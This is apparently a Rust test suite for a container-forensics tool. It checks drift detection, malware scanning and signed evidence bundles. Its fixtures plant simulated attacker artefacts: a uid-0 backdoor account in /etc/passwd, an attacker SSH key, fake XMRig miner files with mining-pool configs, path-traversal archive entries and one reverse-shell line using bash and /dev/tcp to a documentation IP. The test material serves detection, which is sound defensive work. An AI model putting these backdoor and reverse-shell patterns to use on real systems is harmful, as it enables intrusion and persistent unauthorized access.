//! `kir drift` and `kir scan` on images and containers built here, in every input form.

mod common;
mod forensics_fixtures;

use std::collections::BTreeSet;
use std::path::Path;

use common::{kir, stdout_of};
use forensics_fixtures::{Item, archive, docker_save, elf, layer, oci_layout};
use serde_json::Value;

const PASSWD: &[u8] = b"root:x:0:0:root:/root:/bin/sh\n";
const PASSWD_BACKDOOR: &[u8] = b"root:x:0:0:root:/root:/bin/sh\nsvc:x:0:0::/:/bin/sh\n";
const MINER_PAYLOAD: &[u8] = b"XMRig/6.21.0 --donate-level=1 randomx stratum+tcp://pool.minexmr.com:4444";
const MINER_CONFIG: &[u8] = br#"{"autosave": true, "pools": [{"url": "stratum+tcp://198.51.100.7:3333", "user": "4Ax", "keepalive": true}], "donate-level": 1}"#;

fn app() -> Vec<u8> {
    elf(Some("/lib64/ld-linux-x86-64.so.2"), b"the application")
}

fn miner() -> Vec<u8> {
    elf(None, MINER_PAYLOAD)
}

/// Two layers: the second deletes /etc/motd (whiteout) and hides /var/cache's old content (opaque).
fn image_layers() -> Vec<Vec<u8>> {
    let app = app();
    let l1 = layer(&[
        Item::Dir("etc"),
        Item::File("etc/passwd", 0o644, PASSWD),
        Item::File("etc/motd", 0o644, b"welcome\n"),
        Item::File("etc/os-release", 0o644, b"ID=debian\n"),
        Item::Dir("usr/bin"),
        Item::File("usr/bin/app", 0o755, &app),
        Item::Hardlink("usr/bin/app-hard", "usr/bin/app"),
        Item::Symlink("bin/link", "../usr/bin/app"),
        Item::Symlink("escape", "../../../../etc/shadow"),
        Item::Dir("var/cache"),
        Item::File("var/cache/old", 0o644, b"old"),
        Item::Char("dev/null", 1, 3),
        Item::Fifo("run/fifo"),
        Item::Dir("tmp"),
    ]);
    let l2 = layer(&[
        Item::File("etc/.wh.motd", 0o644, b""),
        Item::File("var/cache/.wh..wh..opq", 0o644, b""),
        Item::File("var/cache/new", 0o644, b"new"),
        Item::RawName(b"usr/share/we\x1bird\nname", b"hostile name"),
        Item::RawName(b"../../outside-the-root", b"must never be written"),
    ]);
    vec![l1, l2]
}

/// The container as `docker export` writes it: the merged image, the runtime's files, and
/// what the attacker did.
fn export() -> Vec<u8> {
    let app = app();
    let miner = miner();
    layer(&[
        Item::File(".dockerenv", 0o755, b""),
        Item::Dir("etc"),
        Item::File("etc/passwd", 0o644, PASSWD_BACKDOOR),
        Item::File("etc/hosts", 0o644, b"127.0.0.1 localhost\n10.0.0.7 web\n"),
        Item::File("etc/resolv.conf", 0o644, b"nameserver 10.96.0.10\n"),
        Item::Dir("usr/bin"),
        Item::File("usr/bin/app", 0o755, &app),
        Item::Hardlink("usr/bin/app-hard", "usr/bin/app"),
        Item::Symlink("bin/link", "../usr/bin/app"),
        Item::Symlink("escape", "../../../../etc/shadow"),
        Item::Dir("var/cache"),
        Item::File("var/cache/new", 0o644, b"new"),
        Item::Dir("dev"),
        Item::Char("dev/null", 1, 3),
        Item::Dir("proc"),
        Item::Fifo("run/fifo"),
        Item::Dir("tmp"),
        Item::Dir("tmp/.cache"),
        Item::File("tmp/.cache/xmrig", 0o755, &miner),
        Item::Dir("root/.ssh"),
        Item::File("root/.ssh/authorized_keys", 0o600, b"ssh-ed25519 AAAAC3Nza attacker\n"),
        Item::Dir("opt/miner"),
        Item::File("opt/miner/config.json", 0o644, MINER_CONFIG),
        Item::RawName(b"usr/share/we\x1bird\nname", b"hostile name"),
    ])
}

const ADDED: [&str; 3] = ["/opt/miner/config.json", "/root/.ssh/authorized_keys", "/tmp/.cache/xmrig"];
const MODIFIED: [&str; 1] = ["/etc/passwd"];
const DELETED: [&str; 1] = ["/etc/os-release"];

fn paths(v: &Value, key: &str) -> BTreeSet<String> {
    v[key].as_array().unwrap().iter().map(|e| e["path"].as_str().unwrap().to_string()).collect()
}

fn set(list: &[&str]) -> BTreeSet<String> {
    list.iter().map(|s| s.to_string()).collect()
}

fn drift_json(image: &Path, container: &Path, extra: &[&str]) -> Value {
    let out = stdout_of(
        kir().args(["drift", "--format", "json", "--image"]).arg(image).arg("--container").arg(container).args(extra),
    );
    serde_json::from_str(&out).unwrap()
}

fn assert_the_attack(v: &Value) {
    assert_eq!(paths(v, "added"), set(&ADDED), "{:#}", v["added"]);
    assert_eq!(paths(v, "modified"), set(&MODIFIED), "{:#}", v["modified"]);
    assert_eq!(paths(v, "deleted"), set(&DELETED), "{:#}", v["deleted"]);
    let xmrig = v["added"].as_array().unwrap().iter().find(|e| e["path"] == "/tmp/.cache/xmrig").unwrap();
    assert_eq!(xmrig["executable"], true);
    assert_eq!(xmrig["elf"]["arch"], "x86_64");
    assert_eq!(xmrig["elf"]["statically_linked"], true);
    assert_eq!(xmrig["sha256"], forensics_fixtures::sha256(&miner()));
    assert_eq!(xmrig["size"], miner().len());
    assert_eq!(xmrig["mode"], "0755");
    let config = v["added"].as_array().unwrap().iter().find(|e| e["path"] == "/opt/miner/config.json").unwrap();
    assert_eq!((config["executable"].as_bool(), config["elf"].is_null()), (Some(false), true));
    let findings: BTreeSet<(String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["rule"].as_str().unwrap().to_string(), f["path"].as_str().unwrap().to_string()))
        .collect();
    for (rule, path) in [
        ("binary-in-temp-or-hidden-path", "/tmp/.cache/xmrig"),
        ("ssh-key", "/root/.ssh/authorized_keys"),
        ("account-file-changed", "/etc/passwd"),
    ] {
        assert!(findings.contains(&(rule.to_string(), path.to_string())), "{rule} on {path}: {findings:?}");
    }
}

#[test]
fn drift_of_an_export_against_an_oci_layout_and_a_docker_save_archive() {
    let dir = tempfile::tempdir().unwrap();
    let layers = image_layers();
    oci_layout(&dir.path().join("oci"), &layers);
    docker_save(&dir.path().join("image.tar"), &layers);
    let export_path = dir.path().join("web-export.tar");
    std::fs::write(&export_path, export()).unwrap();

    let from_oci = drift_json(&dir.path().join("oci"), &export_path, &[]);
    assert_the_attack(&from_oci);
    let from_save = drift_json(&dir.path().join("image.tar"), &export_path, &[]);
    for key in ["added", "modified", "deleted", "findings"] {
        assert_eq!(from_oci[key], from_save[key], "{key} the same from both image forms");
    }
    // The runtime's own files are left out, and said so.
    let ignored: BTreeSet<String> =
        from_oci["ignored"].as_array().unwrap().iter().map(|i| i["path"].as_str().unwrap().into()).collect();
    for p in ["/.dockerenv", "/etc/hosts", "/etc/resolv.conf"] {
        assert!(ignored.contains(p), "{p} in {ignored:?}");
    }
    // A path out of the root is reported, never used.
    let problems = from_oci["problems"].to_string();
    assert!(problems.contains("leaves the root"), "{problems}");
    assert!(!dir.path().parent().unwrap().join("outside-the-root").exists());
    // --all keeps the runtime's files.
    let all = drift_json(&dir.path().join("oci"), &export_path, &["--all"]);
    assert!(paths(&all, "added").contains("/etc/hosts"));
}

#[test]
fn drift_of_an_upperdir_and_of_a_layer_tar() {
    let dir = tempfile::tempdir().unwrap();
    let layers = image_layers();
    oci_layout(&dir.path().join("oci"), &layers);
    let upper = dir.path().join("upperdir");
    std::fs::create_dir_all(upper.join("tmp/.cache")).unwrap();
    std::fs::create_dir_all(upper.join("root/.ssh")).unwrap();
    std::fs::create_dir_all(upper.join("opt/miner")).unwrap();
    std::fs::create_dir_all(upper.join("etc")).unwrap();
    std::fs::write(upper.join("tmp/.cache/xmrig"), miner()).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(upper.join("tmp/.cache/xmrig"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(upper.join("root/.ssh/authorized_keys"), b"ssh-ed25519 AAAAC3Nza attacker\n").unwrap();
    std::fs::set_permissions(upper.join("root/.ssh/authorized_keys"), std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::write(upper.join("opt/miner/config.json"), MINER_CONFIG).unwrap();
    std::fs::write(upper.join("etc/passwd"), PASSWD_BACKDOOR).unwrap();
    std::fs::set_permissions(upper.join("etc/passwd"), std::fs::Permissions::from_mode(0o644)).unwrap();
    // overlayfs marks a deletion with a character device 0:0 (root only); else the OCI form.
    let made = std::process::Command::new("mknod").arg(upper.join("etc/os-release")).args(["c", "0", "0"]).status();
    if !made.is_ok_and(|s| s.success()) {
        std::fs::write(upper.join("etc/.wh.os-release"), b"").unwrap();
    }
    // Owners in the upperdir are whoever ran the test; the image's files are root's.
    let v = drift_json(&dir.path().join("oci"), &upper, &[]);
    assert_eq!(paths(&v, "added"), set(&ADDED));
    assert_eq!(paths(&v, "deleted"), set(&DELETED));
    assert!(paths(&v, "modified").contains("/etc/passwd"));

    // A single layer tar works as an image too.
    let single = dir.path().join("rootfs.tar.gz");
    std::fs::write(&single, forensics_fixtures::gzip(&layers[0])).unwrap();
    let export_path = dir.path().join("export.tar");
    std::fs::write(&export_path, &layers[0]).unwrap();
    let same = drift_json(&single, &export_path, &[]);
    assert_eq!((paths(&same, "added").len(), paths(&same, "modified").len(), paths(&same, "deleted").len()), (0, 0, 0));
}

#[test]
fn drift_of_a_checkpoint_archives_rootfs_diff() {
    let dir = tempfile::tempdir().unwrap();
    oci_layout(&dir.path().join("oci"), &image_layers());
    let diff = layer(&[
        Item::File("tmp/.cache/xmrig", 0o755, &miner()),
        Item::File("root/.ssh/authorized_keys", 0o600, b"ssh-ed25519 AAAAC3Nza attacker\n"),
        Item::File("opt/miner/config.json", 0o644, MINER_CONFIG),
        Item::File("etc/passwd", 0o644, PASSWD_BACKDOOR),
    ]);
    let cp = dir.path().join("checkpoint.tar");
    archive(
        &cp,
        &[
            ("config.dump", br#"{"id": "abc", "name": "web", "rootfsImageName": "shop/web:1.0"}"#.to_vec()),
            ("rootfs-diff.tar", diff),
            ("deleted.files", br#"["/etc/os-release"]"#.to_vec()),
            ("checkpoint/inventory.img", vec![0x16, 0x31, 0x31, 0x58]),
        ],
    );
    let v = drift_json(&dir.path().join("oci"), &cp, &[]);
    assert_the_attack(&v);
}

#[test]
fn drift_scan_names_the_miner_and_fail_on_exits_one() {
    let dir = tempfile::tempdir().unwrap();
    docker_save(&dir.path().join("image.tar"), &image_layers());
    let export_path = dir.path().join("web-export.tar");
    std::fs::write(&export_path, export()).unwrap();
    let v = drift_json(&dir.path().join("image.tar"), &export_path, &["--scan"]);
    let rules: BTreeSet<(String, String)> = v["scan"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| (m["rule"].as_str().unwrap().into(), m["path"].as_str().unwrap().into()))
        .collect();
    assert!(rules.contains(&("xmrig-miner".into(), "/tmp/.cache/xmrig".into())), "{rules:?}");
    assert!(rules.contains(&("miner-config".into(), "/opt/miner/config.json".into())), "{rules:?}");
    kir()
        .args(["drift", "-q", "--image"])
        .arg(dir.path().join("image.tar"))
        .arg("--container")
        .arg(&export_path)
        .args(["--fail-on", "critical"])
        .assert()
        .code(1)
        .stdout(predicates::str::contains("Drift: 3 added (1 executable), 1 modified, 1 deleted"));
}

#[test]
fn broken_inputs_are_named_not_fatal() {
    let dir = tempfile::tempdir().unwrap();
    let layers = image_layers();
    docker_save(&dir.path().join("image.tar"), &layers);
    // An export cut in the middle: what was read before the cut stays.
    let mut cut = export();
    cut.truncate(cut.len() / 2);
    let cut_path = dir.path().join("cut.tar");
    std::fs::write(&cut_path, &cut).unwrap();
    let v = drift_json(&dir.path().join("image.tar"), &cut_path, &[]);
    assert!(v["problems"].to_string().contains("cut.tar"), "{}", v["problems"]);
    assert!(paths(&v, "added").contains("/tmp/.cache/xmrig") || paths(&v, "deleted").len() > 1);
    // Not an image at all.
    let junk = dir.path().join("junk.bin");
    std::fs::write(&junk, b"this is not a tar").unwrap();
    kir().args(["drift", "--image"]).arg(&junk).arg("--container").arg(&cut_path).assert().code(2);
    kir()
        .args(["drift", "--image"])
        .arg(dir.path().join("missing.tar"))
        .arg("--container")
        .arg(&cut_path)
        .assert()
        .code(2);
}

#[test]
fn scan_finds_a_planted_miner_among_ten_thousand_files() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("rootfs");
    for i in 0..10_000u32 {
        let d = root.join(format!("srv/data/{:03}", i % 100));
        if i < 100 {
            std::fs::create_dir_all(&d).unwrap();
        }
        std::fs::write(
            d.join(format!("file-{i}.txt")),
            format!("record {i}: nothing to see, pools of water, stratum of rock\n"),
        )
        .unwrap();
    }
    std::fs::create_dir_all(root.join("var/tmp/.x")).unwrap();
    std::fs::write(root.join("var/tmp/.x/kworker"), miner()).unwrap();
    std::fs::write(root.join("var/tmp/.x/config.json"), MINER_CONFIG).unwrap();
    std::fs::write(root.join("srv/run.sh"), b"#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n").unwrap();
    let ioc = dir.path().join("iocs.txt");
    std::fs::write(&ioc, format!("# known bad\n{} kworker miner\n", forensics_fixtures::sha256(&miner()))).unwrap();

    let out = stdout_of(kir().args(["scan", "--format", "jsonl", "--hashes"]).arg(&ioc).arg(&root));
    let matches: Vec<Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let base = root.display().to_string();
    let found: BTreeSet<(String, String)> = matches
        .iter()
        .map(|m| (m["rule"].as_str().unwrap().into(), m["path"].as_str().unwrap().trim_start_matches(&base).into()))
        .collect();
    for (rule, path) in [
        ("xmrig-miner", "/var/tmp/.x/kworker"),
        ("sha256-ioc", "/var/tmp/.x/kworker"),
        ("miner-config", "/var/tmp/.x/config.json"),
        ("stratum-url", "/var/tmp/.x/config.json"),
        ("reverse-shell", "/srv/run.sh"),
    ] {
        assert!(found.contains(&(rule.to_string(), path.to_string())), "{rule} on {path}: {found:?}");
    }
    assert!(found.iter().all(|(_, p)| !p.starts_with("/srv/data/")), "the harmless files stay quiet: {found:?}");
    for m in &matches {
        assert_eq!(m["sha256"].as_str().unwrap().len(), 64);
    }
    kir().args(["scan", "-q", "--fail-on", "high"]).arg(&root).assert().code(1);
}

#[test]
fn scan_reads_tars_as_they_stream_and_stays_quiet_on_a_clean_system() {
    let dir = tempfile::tempdir().unwrap();
    let export_path = dir.path().join("web-export.tar.gz");
    std::fs::write(&export_path, forensics_fixtures::gzip(&export())).unwrap();
    let out = stdout_of(kir().args(["scan", "--format", "jsonl"]).arg(&export_path));
    assert!(out.contains("\"rule\":\"xmrig-miner\"") && out.contains("\"path\":\"/tmp/.cache/xmrig\""), "{out}");
    // An image archive is scanned layer by layer, its files by their paths in the image.
    let save = dir.path().join("image.tar");
    let mut layers = image_layers();
    layers.push(layer(&[Item::File("usr/local/bin/kworkerd", 0o755, &miner())]));
    docker_save(&save, &layers);
    let out = stdout_of(kir().args(["scan", "--format", "jsonl"]).arg(&save));
    assert!(out.contains("\"path\":\"/usr/local/bin/kworkerd\""), "{out}");
    // The machine's own Debian binaries and configuration raise nothing.
    let clean = stdout_of(kir().args(["scan", "-q", "--format", "jsonl", "/etc", "/usr/bin", "/usr/sbin"]));
    assert_eq!(clean, "", "false positives on a clean Debian system");
}

/// A GNU sparse member (a 1 MiB file holding 4 KiB of data) and a 48 MiB member: sizes and
/// hashes are those of the whole files, read as they stream.
#[test]
fn sparse_and_large_files_are_hashed_whole() {
    use sha2::Digest;
    let octal12 = |n: u64| {
        let mut f = [0u8; 12];
        f[..11].copy_from_slice(format!("{n:011o}").as_bytes());
        f
    };
    let dir = tempfile::tempdir().unwrap();
    let data = vec![b'm'; 4096];
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::GNUSparse);
    h.set_mode(0o755);
    h.set_path("var/tmp/sparse.bin").unwrap();
    h.set_size(data.len() as u64);
    {
        let gnu = h.as_gnu_mut().unwrap();
        gnu.sparse[0].offset = octal12(512 * 1024);
        gnu.sparse[0].numbytes = octal12(4096);
        // GNU tar ends the map with an empty chunk at the real size.
        gnu.sparse[1].offset = octal12(1024 * 1024);
        gnu.sparse[1].numbytes = octal12(0);
        gnu.realsize = octal12(1024 * 1024);
    }
    h.set_cksum();
    b.append(&h, &data[..]).unwrap();
    let big = vec![0x5au8; 48 << 20];
    let mut hb = tar::Header::new_gnu();
    hb.set_entry_type(tar::EntryType::Regular);
    hb.set_mode(0o644);
    hb.set_size(big.len() as u64);
    b.append_data(&mut hb, "srv/big.bin", &big[..]).unwrap();
    let container = dir.path().join("c.tar");
    std::fs::write(&container, b.into_inner().unwrap()).unwrap();
    let image = dir.path().join("empty.tar");
    std::fs::write(&image, layer(&[Item::Dir("tmp")])).unwrap();
    let v = drift_json(&image, &container, &[]);
    let added = v["added"].as_array().unwrap();
    let sparse = added.iter().find(|e| e["path"] == "/var/tmp/sparse.bin").unwrap();
    let mut whole = vec![0u8; 1024 * 1024];
    whole[512 * 1024..512 * 1024 + 4096].copy_from_slice(&data);
    assert_eq!(sparse["size"], 1024 * 1024);
    assert_eq!(sparse["sha256"], hex::encode(sha2::Sha256::digest(&whole)));
    let large = added.iter().find(|e| e["path"] == "/srv/big.bin").unwrap();
    assert_eq!(large["size"], 48u64 << 20);
    assert_eq!(large["sha256"], hex::encode(sha2::Sha256::digest(&big)));
}

/// Drift results as a signed evidence bundle on an incident's timeline; `kir evidence verify`
/// catches a changed byte, a missing file, an added file and a broken custody chain.
#[test]
fn drift_results_become_a_signed_bundle_that_verify_checks() {
    let dir = tempfile::tempdir().unwrap();
    docker_save(&dir.path().join("image.tar"), &image_layers());
    let export_path = dir.path().join("web-export.tar");
    std::fs::write(&export_path, export()).unwrap();
    let key = dir.path().join("kir-evidence.key");
    let public = stdout_of(kir().args(["evidence", "keygen", "-q", "--out"]).arg(&key)).trim().to_string();
    assert_eq!(public.len(), 64);
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&key).unwrap().permissions().mode() & 0o777, 0o600);
    let store = format!("sqlite:{}", dir.path().join("ir.db").display());
    stdout_of(
        kir()
            .args(["incident", "open", "--title", "miner in web", "--severity", "high", "--store", &store])
            .env_remove("KIR_PLAN"),
    );

    let evidence = dir.path().join("evidence");
    let assert = kir()
        .args(["drift", "-q", "--image"])
        .arg(dir.path().join("image.tar"))
        .arg("--container")
        .arg(&export_path)
        .arg("--evidence")
        .arg(&evidence)
        .arg("--sign-key")
        .arg(&key)
        .args(["--incident", "1", "--store", &store])
        .assert()
        .success();
    drop(assert);
    let bundle = std::fs::read_dir(&evidence).unwrap().next().unwrap().unwrap().path();
    assert!(bundle.file_name().unwrap().to_string_lossy().starts_with("drift-web-export.tar-"));
    let verify = |extra: &[&str]| kir().args(["evidence", "verify"]).arg(&bundle).args(extra).assert();
    verify(&["--key", &public]).code(0).stdout(predicates::str::contains("signature valid — INTACT"));
    let drift: Value = serde_json::from_slice(&std::fs::read(bundle.join("drift.json")).unwrap()).unwrap();
    assert_eq!(paths(&drift, "added"), set(&ADDED));

    // The incident's timeline names the bundle.
    let shown = stdout_of(kir().args(["incident", "show", "1", "--format", "json", "--store", &store]));
    assert!(shown.contains("\"kind\": \"evidence\"") && shown.contains("drift of the container"), "{shown}");

    // Custody: hand it over, still intact; a foreign key is refused.
    kir()
        .args(["evidence", "custody"])
        .arg(&bundle)
        .args(["--action", "handed-over", "--note", "to the IR firm"])
        .assert()
        .success();
    verify(&[]).code(0);
    let (_, stranger) = kir_evidence::keygen().unwrap();
    verify(&["--key", &stranger]).code(1).stdout(predicates::str::contains("key mismatch"));

    // One changed byte, a removed file, an added file: each makes it fail.
    let original = std::fs::read(bundle.join("drift.json")).unwrap();
    let mut changed = original.clone();
    changed[10] ^= 1;
    std::fs::write(bundle.join("drift.json"), &changed).unwrap();
    verify(&[]).code(1).stdout(predicates::str::contains("changed: drift.json"));
    std::fs::remove_file(bundle.join("drift.json")).unwrap();
    verify(&[]).code(1).stdout(predicates::str::contains("missing: drift.json"));
    std::fs::write(bundle.join("drift.json"), &original).unwrap();
    verify(&[]).code(0);
    std::fs::write(bundle.join("notes.txt"), b"added later").unwrap();
    verify(&[]).code(1).stdout(predicates::str::contains("added: notes.txt"));
    std::fs::remove_file(bundle.join("notes.txt")).unwrap();
    // A rewritten custody entry breaks the chain.
    let log = std::fs::read_to_string(bundle.join("custody.jsonl")).unwrap();
    std::fs::write(bundle.join("custody.jsonl"), log.replacen("handed-over", "destroyed", 1)).unwrap();
    verify(&[]).code(1).stdout(predicates::str::contains("the chain is broken"));
    kir().args(["evidence", "verify"]).arg(dir.path()).assert().code(2);
}
